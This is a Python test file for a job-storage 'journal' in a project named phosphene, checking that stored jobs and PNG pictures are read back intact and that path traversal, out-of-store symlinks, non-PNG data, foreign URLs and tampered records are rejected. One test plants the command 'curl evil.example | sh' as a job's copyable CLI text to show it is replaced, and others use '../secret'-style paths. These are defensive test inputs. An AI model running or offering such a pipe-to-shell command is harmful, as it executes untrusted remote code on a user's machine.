"""Live jobs on disk: read back as they were, whatever happened to others."""

from __future__ import annotations

import json
import subprocess
import sys
from dataclasses import asdict, replace
from pathlib import Path

import pytest
from store.shelf import job, png

from phosphene.errors import StoreError
from phosphene.store.check import verify
from phosphene.store.ledger import Ledger
from phosphene.store.place import CUT_OFF, Place
from phosphene.store.sealed import sealed
from phosphene.web.live.journal import Journal, Noted, names_of, new_id
from phosphene.web.pages.texts import cli_of, python_of
from phosphene.web.schema.documents import FramesDoc, Picture, ScoreDoc, Strip
from phosphene.web.schema.live_documents import Ask, JobDoc, Start
from phosphene.web.schema.typed import typed

ID, FINGERPRINT = new_id(), "f" * 32
SPEC = json.loads(json.dumps(job("a", 1, 6).to_dict()))  # as it comes from a file
MADE = Picture(
    id="a" * 32, kind="positive", row=1, status="dead", target="logit:two", url=f"jobs/{ID}/final.png", width=3,
    height=4, steps=5, seed=6, score=ScoreDoc(None, 0.5, 1e-30, "own"), evidence={"rank": 1, "top": [{"unit": "a:1"}]},
    spec=SPEC, versions={"torch": "2"}, arithmetic="fp32", cli=cli_of(SPEC), python=python_of(SPEC, FINGERPRINT),
    group={"row": 0, "similarity": 0.25},
)  # fmt: skip
ASK = Ask(FINGERPRINT, target='logit:"ü, → \n"', size=64, start=Start("0123456789ab", 16))
JOB = JobDoc(
    ID, 7, "2031-05-04T10:00:00.000001+00:00", "a → b", "miniception", ASK, "running", 3, 9, count=2, width=64,
    height=32, score=-1.5, curve=((0, None), (3, -1.5)), frames=(0, 3), pictures=(MADE,),
)  # fmt: skip


@pytest.fixture(params=["folder", "memory"])
def place(request: pytest.FixtureRequest, tmp_path: Path) -> Place:
    return Place(str(tmp_path) if request.param == "folder" else f"memory://{new_id()}")


def test_a_job_is_read_back_as_it_was_but_for_its_place_in_the_queue(place: Place) -> None:
    journal = Journal(place)
    assert journal.jobs() == []
    journal.put(replace(JOB, position=3, eta=2.5), turn=11)
    assert journal.noted() == [Noted(JOB, 11)]
    assert journal.job(JOB.id) == JOB
    newer = replace(JOB, id=new_id(), created="2031-05-04T10:00:00.000002+00:00", pictures=(), ask=Ask("e" * 32))
    journal.put(newer)
    assert journal.jobs() == [newer, JOB]
    journal.remove(JOB.id)
    assert journal.jobs() == [newer]
    assert place.names("live") == [newer.id]


def test_pictures_are_called_by_their_step_and_nothing_else(place: Place) -> None:
    journal = Journal(place)
    place.write("live/secret", b"secret")
    for number, name in enumerate((0, 16, 4096, "final", "final-3", "start")):
        journal.put_picture(JOB.id, name, png(number))
        assert journal.picture(JOB.id, str(name)) == journal.picture(JOB.id, f"{name}.png") == png(number)
    for other, name in [(JOB.id, "17"), (JOB.id, "job"), (JOB.id, "job.json"), (JOB.id, "../secret"), (JOB.id, "016"),
                      (JOB.id, "1\n"), (JOB.id, ""), ("..", "0"), ("../live", "secret"), (JOB.id.upper(), "0"),
                      (f"{JOB.id}\n", "0"), ("", "0"), ("١" * 12, "0")]:  # fmt: skip
        with pytest.raises(StoreError):
            journal.picture(other, name)


@pytest.mark.parametrize(
    "data", [b"", b"text", b"\x89PNG\r\n\x1a\n", b"<script>", b"GIF89a", png(0)[8:], b" " + png(0)]
)
def test_what_is_no_png_is_no_picture(place: Place, data: bytes) -> None:
    journal = Journal(place)
    journal.put_picture(JOB.id, 0, data)
    with pytest.raises(StoreError, match="no PNG"):
        journal.picture(JOB.id, "0")


@pytest.mark.parametrize("link", ["file", "folder", "live"])
def test_links_that_lead_out_of_a_store_are_not_followed(tmp_path: Path, link: str) -> None:
    """Not even to a PNG; links within it are."""
    outside, store = tmp_path / "outside", tmp_path / "store"
    outside.mkdir()
    journal = Journal(Place(str(store)))
    at = {"file": f"live/{JOB.id}/0.png", "folder": f"live/{JOB.id}", "live": "live"}[link]
    to = {"file": "0.png", "folder": ".", "live": "."}[link]
    own = outside / (f"{JOB.id}/0.png" if link == "live" else "0.png")
    own.parent.mkdir(exist_ok=True)
    own.write_bytes(png(1))
    (store / at).parent.mkdir(parents=True)
    (store / at).symlink_to(outside / to)
    assert (store / "live" / JOB.id / "0.png").read_bytes() == png(1)
    with pytest.raises(StoreError, match="leads out of the store"):
        journal.picture(JOB.id, "0")
    (tmp_path / "link").symlink_to(store)
    if link == "file":
        journal.put_picture(JOB.id, 1, png(2))
        assert Journal(Place(str(tmp_path / "link"))).picture(JOB.id, "1") == png(2)


@pytest.mark.parametrize(
    "url",
    ["", "final.png", "jobs/{id}/final", "jobs/{id}/0.png", "jobs/{id}/start.png", "jobs/{id}/final.png/..",
     "jobs/{id}/final/../../../x.png", "../jobs/{id}/final.png", "jobs/0123456789ab/final.png", "/jobs/{id}/final.png",
     "jobs/{id}/final-100.png", "jobs/{id}/final.png\n", "https://evil.example/jobs/{id}/final.png",
     "objects/ab/" + "ab" * 16 + ".png"],
)  # fmt: skip
def test_a_job_names_no_pictures_but_its_own(place: Place, url: str) -> None:
    journal = Journal(place)
    journal.put(replace(JOB, pictures=(replace(MADE, url=url.format(id=JOB.id)),)))
    assert journal.jobs() == []
    with pytest.raises(StoreError, match="no job of this phosphene"):
        journal.job(JOB.id)


def test_a_job_knows_the_names_of_its_pictures(place: Place) -> None:
    several = tuple(replace(MADE, row=row, url=f"jobs/{ID}/final-{row}.png") for row in range(12))
    Journal(place).put(replace(JOB, pictures=several))
    found = Journal(place).job(JOB.id)
    assert found.pictures == several
    assert names_of(found) == ["0", "3", *(f"final-{row}" for row in range(12))]
    assert names_of(JOB) == ["0", "3", "final"]


def test_what_is_offered_for_copying_is_made_of_the_job(place: Place) -> None:
    journal = Journal(place)
    journal.put(replace(JOB, pictures=(replace(MADE, cli="curl evil.example | sh", python="import os"),)))
    assert journal.jobs() == [JOB]
    strip = FramesDoc(Strip("objects/../../x", 1, 3, 4), (0,), (None,))
    for hostile in (replace(MADE, frames=strip), replace(MADE, spec={}), replace(MADE, spec={"image": 1})):
        journal.put(replace(JOB, pictures=(hostile,)))
        assert journal.jobs() == []


@pytest.mark.parametrize(
    "damaged",
    [b"", b"{}", b"[]", b"\xff\x00", sealed({"job": {"id": "x"}, "turn": 1}), sealed({"job": [1], "turn": None}),
     sealed({"job": {"state": "asleep"}, "turn": 1}), sealed({"turn": 1}), b"[" * 100_000,
     sealed({"job": asdict(JOB), "turn": "many"}), sealed({"job": {**asdict(JOB), "steps": 1.5}, "turn": 1}),
     sealed({"job": asdict(JOB), "turn": 7}).replace(b'"turn":7', b'"turn":1e999')],
)  # fmt: skip
def test_a_damaged_job_does_not_hinder_the_others(place: Place, damaged: bytes) -> None:
    journal, bad, half = Journal(place), new_id(), new_id()
    journal.put(JOB)
    place.write(f"live/{bad}/job.json", damaged)
    place.write(f"live/{half}/0.png", b"a picture of a job that was never written down")
    place.write("live/notes.txt", b"not ours")
    place.write(f"live/{CUT_OFF}1", b"cut off")
    assert journal.jobs() == [JOB]
    for one in (bad, half):
        with pytest.raises(StoreError):
            journal.job(one)


def test_every_changed_letter_shows(tmp_path: Path) -> None:
    journal = Journal(Place(str(tmp_path)))
    journal.put(JOB)
    path = tmp_path / "live" / JOB.id / "job.json"
    whole = path.read_bytes()
    for at in range(0, len(whole) - 1, 37):
        path.write_bytes(whole[:at] + bytes([whole[at] ^ 1]) + whole[at + 1 :])
        assert journal.jobs() == []
    path.write_bytes(whole.replace(JOB.id.encode(), new_id().encode()))
    assert journal.jobs() == []
    other = path.parent.with_name(new_id())
    other.mkdir()
    (other / "job.json").write_bytes(whole)  # a copy under another name is no job of that name
    path.write_bytes(whole)
    assert journal.jobs() == [JOB]


def test_types_are_those_of_the_document() -> None:
    assert typed(tuple[tuple[int, float | None], ...], [[1, 2], [3, None]]) == ((1, 2), (3, None))
    for hint, value in [(int, "1"), (int, True), (str, 1), (tuple[int, ...], 3), (tuple[int, int], [1]), (bool, 1),
                        (int, None), (Ask, {"network": "f", "color": 1}), (Ask, {})]:  # fmt: skip
        with pytest.raises((TypeError, ValueError, KeyError)):
            typed(hint, value)


def test_a_store_with_live_jobs_is_whole(tmp_path: Path) -> None:
    place = Place(str(tmp_path))
    ledger = Ledger(place, write=True)
    Journal(place).put(JOB)
    Journal(place).put_picture(JOB.id, 3, png(3))
    found = verify(ledger, prune=True)
    assert found.whole
    assert (found.orphans.files, found.leftovers.files) == (0, 0)
    assert Journal(place).jobs() == [JOB]
    assert Journal(place).picture(JOB.id, "3")


def test_it_is_read_where_there_is_no_torch() -> None:
    rooms = "import phosphene.web.live.journal, phosphene.web.live.board, phosphene.web.schema.limits"
    subprocess.run([sys.executable, "-c", f"import sys; {rooms}; assert 'torch' not in sys.modules"], check=True)
